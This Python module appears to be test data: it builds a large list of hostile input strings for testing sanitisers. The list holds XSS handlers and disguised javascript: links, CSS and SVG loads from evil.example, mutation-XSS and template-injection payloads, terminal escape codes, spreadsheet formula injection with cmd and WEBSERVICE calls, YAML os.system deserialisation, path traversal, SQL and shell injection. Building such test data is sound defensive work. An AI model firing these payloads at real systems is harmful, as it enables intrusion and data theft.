"""More of the hostile words: made from lists of carriers, schemes, disguises and formats, each piece its own."""

# ruff: noqa: E501  # tables
from __future__ import annotations

from fakes.hostile_words import ALL as FIRST

_RUN = "hacked()"
_OUT = "http://evil.example/x"
_CARRIERS = (
    *(
        "a",
        "abbr",
        "address",
        "area",
        "article",
        "b",
        "bdo",
        "blockquote",
        "canvas",
        "caption",
        "center",
        "cite",
        "col",
    ),
    *("dd", "del", "dl", "fieldset", "figure", "font", "h1", "hr", "img", "ins", "kbd", "label", "li", "map", "menu"),
)
_EVENTS = (
    *("onclick", "onmouseenter", "onpointerover", "onwheel", "onkeydown", "onscroll", "oncopy", "ondrag", "onresize"),
    *(
        "onanimationend",
        "ontransitionend",
        "onbeforetoggle",
        "oncontentvisibilityautostatechange",
        "onpointerrawupdate",
    ),
    *(
        "onauxclick",
        "onbeforeinput",
        "onscrollend",
        "onsecuritypolicyviolation",
        "onslotchange",
        "onunhandledrejection",
    ),
    *("onmessage", "onhashchange", "onpopstate", "onstorage", "onerror", "onload", "onfocusin", "onselectstart"),
)
HANDLERS = tuple(f"<{tag} {event}={_RUN} tabindex=1>x" for tag, event in zip(_CARRIERS, _EVENTS, strict=True))
_SCHEMES = ("javascript", "vbscript", "data", "blob", "file", "filesystem", "view-source", "jar", "livescript", "feed")
_DISGUISES = (
    "{}:", " {}:", "\x01{}:", "{}\t:", "{}&colon;", "{}&#58;", "&#x6a;{}:", "\u2028{}:", "{}\\x3a", "{}%3A", "\ufeff{}:",
)  # fmt: skip
LINKS = tuple(
    f'<a href="{disguise.format(scheme)}{_RUN}">{scheme}</a>'
    for number, scheme in enumerate(_SCHEMES)
    for disguise in _DISGUISES[number % 4 :: 2]
)
STYLES = (
    f"<style>*{{background-image:url({_OUT})}}</style>",
    f"<style>@font-face{{font-family:x;src:url({_OUT})}}</style>",
    f"<style>input[value^=a]{{background:url({_OUT})}}</style>",
    f"<p style=\"background:url('{_OUT}')\">",
    "<p style='position:fixed;inset:0;z-index:9999'>",
    "<p style='-moz-binding:url(http://evil.example/x)'>",
    f"<link rel='stylesheet' href='{_OUT}'>",
    f"<svg><style>*{{fill:url({_OUT})}}</style></svg>",
    f"}}*{{background:url({_OUT})",
    f"</style><img src={_OUT}>",
    f"expression({_RUN})",
    f"\\65xpression({_RUN})",
    f"x:e/**/xpression({_RUN})",
    f"<div style=list-style:url({_OUT})>",
    f"<b style=cursor:url({_OUT}),auto>",
    f"<i style='content:url({_OUT})'>",
    "<u style='behavior:url(#default#time2)'>",
    "url(javascript:hacked())",
)
MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f'<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={_RUN} src=1>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<table><td><form><input name=parentNode><img src=x onerror={_RUN}>",
    f"<svg><p><style><!--</style><img src=x onerror={_RUN}>-->",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={_RUN}>",
    f"<svg><title><style><img src=x onerror={_RUN}>",
    f"<svg><desc><script>{_RUN}</script>",
    f"<select><template><img src=x onerror={_RUN}>",
    f"<listing>&lt;img src=x onerror={_RUN}&gt;",
    f"<iframe>&lt;/iframe&gt;&lt;img src=x onerror={_RUN}&gt;",
    f"<a id=x><a id=x name=y href='cid:{_RUN}'>",
    "<form id=x tabindex=1><input name=attributes><input name=innerHTML>",
    "<img name=getElementById><img name=querySelector>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x",
    f"<svg><use xlink:href='{_OUT}#x'/>",
    f"<svg><feImage href='{_OUT}'/>",
    f"<svg><animate xlink:href='#x' attributeName=href values='javascript:{_RUN}'/>",
    f"<svg><handler type='text/javascript'>{_RUN}</handler>",
    f"<math><maction actiontype='statusline#{_OUT}' xlink:href='javascript:{_RUN}'>x",
    f"<!--[if IE]><script>{_RUN}</script><![endif]-->",
    f"<?xml-stylesheet href='{_OUT}'?>",
    f"<xml:script>{_RUN}</xml:script>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_RUN}</x:script>",
    f"<link rel=modulepreload href={_OUT}>",
    f"<link rel=manifest href={_OUT}>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{_OUT}"]}}]}}</script>',
    f'<script type=importmap>{{"imports":{{"/static/":"{_OUT}"}}}}</script>',
    f"<meta http-equiv='Content-Security-Policy' content='report-uri {_OUT}'>",
    f"<a ping={_OUT} href=/>x</a>",
    "<img loading=eager src='//evil.example/{}' crossorigin>",
    f"<object type='text/html' data='{_OUT}'>",
    f"<fencedframe src={_OUT}>",
    f"<button popovertarget=x onbeforetoggle={_RUN}>x",
    f"<input type=image src={_OUT} formaction={_OUT}>",
)
TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%for x in [1]%}{{x}}{%endfor%}", "{# comment #}", "{{''.__class__.__mro__}}",
    "{{request.application.__globals__}}", "{%include '/etc/passwd'%}", "{{url_for.__globals__}}", "@{7*7}", "*{7*7}", "[[7*7]]",
    "[(${7*7})]", "{{constructor.constructor('hacked()')()}}", "{{$on.constructor('hacked()')()}}", "<div v-html=hacked()>",
    "<div x-init=hacked()>", "<div ng-app ng-csp>{{$eval.constructor('hacked()')()}}", "<div data-bind='x:hacked()'>",
    "%(name)s", "%(count)d %(missing)s", "%s %d %x", "%", "100 %", "%%(x)s", "{0}", "{name}", "{0.__init__.__globals__}", "{!r}", "{", "}}",
    "$name ${name} $(name) `name`", "\\1 \\g<0> \\N{BULLET}", "\\u0041 \\x41 \\101 \\n", "<#assign x='freemarker'>",
)  # fmt: skip
LETTERS = (
    "\u202eelif\u202c right to left", "\u202dleft\u202c", "\u2066isolated\u2069", "\u2067right\u2069", "\u2068first\u2069", "\u202a\u202b",
    "report\u202efdp.exe", "\u200fשלום abc\u200e", "مرحبا (123) abc", "p\u0430ypal and \u0455cope", "\uff1cscript\uff1ehacked()\uff1c/script\uff1e",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034da\u0334\u0335lgo",
    "a" + "\u0300" * 60, "\ufdfd\ufdfd\ufdfd", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0041\U000e0042 tags", "\ufe0f\ufe0f", "\u115f\u3164",
    "\u00ad\u00ads\u00adoft", "\u2063\u2064", "\ufff9\ufffa\ufffb", "\ufffe\uffff", "\U0010ffff", "x" * 3_000, "\u1680\u3000\u2003 spaces",
    "\u0130\u0131\u017f\ufb01", "\u2044\u2215 slashes", "1\u20442", "\u066b\u0660\u0661", "\x7f\x80\x9b31m",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]52;c;ZXZpbA==\x07", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x1bP$qm\x1b\\", "\x1b[6n", "\x1b#8",
    "\x9b2J", "\x1b[?1049h", "\x08\x08\x08over", "line\rover", "a\x0bb\x0cc", "\x1b[8mhidden\x1b[0m", "\x1b_Gf=100\x1b\\", "\x07\x07",
)  # fmt: skip
CELLS = (
    "=1+1", "+1+1", "-1+1", "@A1", "=cmd|'/c calc'!A1", "=IMPORTXML(\"http://evil.example\",\"//a\")", "\t=1", "\r=1", "\n=1", "\"=1", "'=1",
    "=WEBSERVICE(\"http://evil.example\")", "%0A=1", "a\",\"=1", "a\n=1+1,b", ";=1", "|=1", "＝1+1", "＋1", "－1", "＠A1",
)  # fmt: skip
FILES = (
    "BEGIN:VEVENT\r\nATTACH:http://evil.example", "a\r\nDTSTART:20260101", "a\\nb\\,c\\;d", "a;X=b:c", "Subject: x\r\nTo: all@evil.example",
    "a@b.example\nBcc: c@d.example", "=?utf-8?q?=0d=0aBcc:x?=", "<a@b.example>, c@d.example", ".\r\nQUIT\r\n", "--boundary--\r\n",
    "\\immediate\\write18{id}", "\\input{/etc/passwd}", "}}\n@comment{", "{\\catcode`\\@=11", "$$x$$ \\def\\a{\\a}\\a", "TY  - JOUR\nER  - ",
    "--- !!python/object/apply:os.system [id]", "- *a\n- &a b", "a: !!binary x", "? x\n: y", "`code` ~~~ ***", "<!-- [x](y) -->", "| a | b |\n|---|",
    "[x]: http://evil.example 'x'", "![x](http://evil.example/x.png)", "<http://evil.example>", "# heading\n> quote", "[^1]: note",
    "</script><!--", "<!--<script>", "]]>", "<![CDATA[", "<?x?>", "&lol;", "&#0;", "&#xD800;", "&#1114112;", "\x00", "\x0e\x1f", "\ud800".encode("utf-8", "replace").decode(),
    "../../etc/passwd", "..\\..\\windows", "CON", "aux.txt", "a/b\\c:d*e?f\"g<h>i|j", ".", "..", "~root", "-rf", "a" * 300 + ".html", "C:\\x", "\\\\evil.example\\x",
    "'; drop table reports; --", "\" OR \"\"=\"", "1; select pg_sleep(9)", "NEAR/2 (a OR b)", "a* AND NOT", "\"unclosed", "(((", "title:", "^a", "-a", "$(id)", "`id`", "| id", "; id", "&& id",
)  # fmt: skip
_MADE = (*HANDLERS, *LINKS, *STYLES, *MUTATIONS, *TEMPLATES, *LETTERS, *TERMINAL, *CELLS, *FILES)
MORE = tuple(dict.fromkeys(piece for piece in _MADE if piece not in FIRST))
EVERY = (*FIRST, *MORE)
